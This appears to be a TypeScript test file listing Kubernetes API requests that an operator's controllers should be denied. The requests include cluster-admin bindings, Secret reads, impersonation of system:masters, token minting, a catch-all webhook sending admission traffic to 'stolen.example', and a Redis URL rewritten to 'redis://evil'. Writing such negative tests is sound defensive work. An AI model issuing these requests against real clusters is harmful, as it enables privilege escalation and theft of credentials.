import {
  attemptBy,
  core,
  inGroup,
  patch,
  pool,
  poolReads,
  post,
  remove,
  type Actor,
  type Attempt,
  type Scene,
} from './scene.ts';

const ASKED_BY_ALL = {
  clientConfig: { url: 'https://stolen.example' },
  rules: [{ apiGroups: ['*'], apiVersions: ['*'], operations: ['*'], resources: ['*'] }],
  sideEffects: 'None',
  admissionReviewVersions: ['v1'],
};

export function clusterAttempts({ shop, release }: Scene): Attempt[] {
  const queueReads = attemptBy('queue-controller', true);
  const rbac = '/apis/rbac.authorization.k8s.io/v1';
  const binding = (kind: string): object => ({
    kind,
    metadata: { name: 'stolen' },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
    subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: shop }],
  });
  const rules = [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }];
  const template = {
    metadata: { labels: { a: 'b' } },
    spec: { restartPolicy: 'Never', containers: [{ name: 'a', image: 'evil' }] },
  };
  const always = { ...template, spec: { containers: template.spec.containers } };
  const selector = { matchLabels: { a: 'b' } };
  const metadata = { name: 'stolen' };
  const everyone: Actor[] = ['queue-controller', 'workerpool-controller', 'autoscaler', 'uninstall'];
  const configurations = '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations';
  const webhooks = `${release}-rq-queue-controller-webhook`;
  const validate = `validate.queues.redis-queue.io`;
  return [
    attemptBy('queue-controller')(
      'writes the Secret of another',
      patch(core(shop, 'secrets', 'payments'), { data: { key: '' } }),
    ),
    attemptBy('queue-controller')(
      'has its webhook asked by everybody',
      patch(`${configurations}/${webhooks}`, {
        webhooks: [{ name: validate, ...ASKED_BY_ALL }],
      }),
    ),
    attemptBy('queue-controller')('takes its webhook away', patch(`${configurations}/${webhooks}`, { webhooks: [] })),
    attemptBy('queue-controller')(
      'makes a webhook of its own',
      post(configurations, { metadata, webhooks: [{ name: validate, ...ASKED_BY_ALL }] }),
    ),
    ...everyone.flatMap((who) => [
      attemptBy(who)(
        'makes somebody an administrator',
        post(`${rbac}/clusterrolebindings`, binding('ClusterRoleBinding')),
      ),
      attemptBy(who)('creates a Secret', post(core(shop, 'secrets'), { metadata, stringData: { a: 'b' } })),
      attemptBy(who, true)('reads a Secret of another name', {
        method: 'GET',
        path: core(shop, 'secrets', 'payments'),
      }),
      attemptBy(who, true)('acts as an administrator', {
        method: 'GET',
        path: core('kube-system', 'secrets'),
        headers: { 'impersonate-user': 'admin', 'impersonate-group': 'system:masters' },
      }),
    ]),
    pool(
      'makes somebody the administrator of a namespace',
      post(inGroup('rbac.authorization.k8s.io/v1', shop, 'rolebindings'), binding('RoleBinding')),
    ),
    pool('creates a ClusterRole', post(`${rbac}/clusterroles`, { metadata, rules })),
    pool(
      'widens its own Role',
      patch(inGroup('rbac.authorization.k8s.io/v1', release, 'roles', 'rq-workerpool-controller-release'), {
        rules,
      }),
    ),
    pool(
      'gets a token of another ServiceAccount',
      post(`${core(release, 'serviceaccounts', 'rq-queue-controller')}/token`, { spec: { expirationSeconds: 3600 } }),
    ),
    pool('creates a ServiceAccount', post(core(shop, 'serviceaccounts'), { metadata })),
    poolReads('lists all Secrets', { method: 'GET', path: '/api/v1/secrets' }),
    queueReads('reads the pods', { method: 'GET', path: core(shop, 'pods') }),
    poolReads(
      'removes the policy that binds it',
      remove(
        `/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings/${release}-rq-workerpool-controller`,
      ),
    ),
    pool('changes a Secret', patch(core(shop, 'secrets', 'payments'), { stringData: { key: 'x' } })),
    pool(
      'changes the Secret of a Redis',
      patch(core(shop, 'secrets', 'redis-credentials'), { stringData: { 'redis-url': 'redis://evil' } }),
    ),
    pool('creates a ConfigMap', post(core(shop, 'configmaps'), { metadata })),
    pool('changes a ConfigMap', patch(core(shop, 'configmaps', 'settings'), { data: { a: 'x' } })),
    pool(
      'creates a DaemonSet',
      post(inGroup('apps/v1', shop, 'daemonsets'), { metadata, spec: { selector, template: always } }),
    ),
    pool(
      'creates a ReplicaSet',
      post(inGroup('apps/v1', shop, 'replicasets'), { metadata, spec: { selector, template: always } }),
    ),
    pool(
      'creates a StatefulSet',
      post(inGroup('apps/v1', shop, 'statefulsets'), {
        metadata,
        spec: { serviceName: 'a', selector, template: always },
      }),
    ),
    pool('creates a Job', post(inGroup('batch/v1', shop, 'jobs'), { metadata, spec: { template } })),
    pool(
      'creates a CronJob',
      post(inGroup('batch/v1', shop, 'cronjobs'), {
        metadata,
        spec: { schedule: '* * * * *', jobTemplate: { spec: { template } } },
      }),
    ),
    pool('creates a Service', post(core(shop, 'services'), { metadata, spec: { ports: [{ port: 80 }] } })),
    pool(
      'opens the network',
      post(inGroup('networking.k8s.io/v1', shop, 'networkpolicies'), {
        metadata,
        spec: { podSelector: {}, ingress: [{}], policyTypes: ['Ingress'] },
      }),
    ),
    pool('creates a namespace', post('/api/v1/namespaces', { metadata })),
    pool(
      'relaxes the Pod Security of a namespace',
      patch(`/api/v1/namespaces/${shop}`, {
        metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } },
      }),
    ),
    pool(
      'changes a definition',
      patch('/apis/apiextensions.k8s.io/v1/customresourcedefinitions/queues.redis-queue.io', {
        metadata: { labels: { a: 'b' } },
      }),
    ),
  ];
}
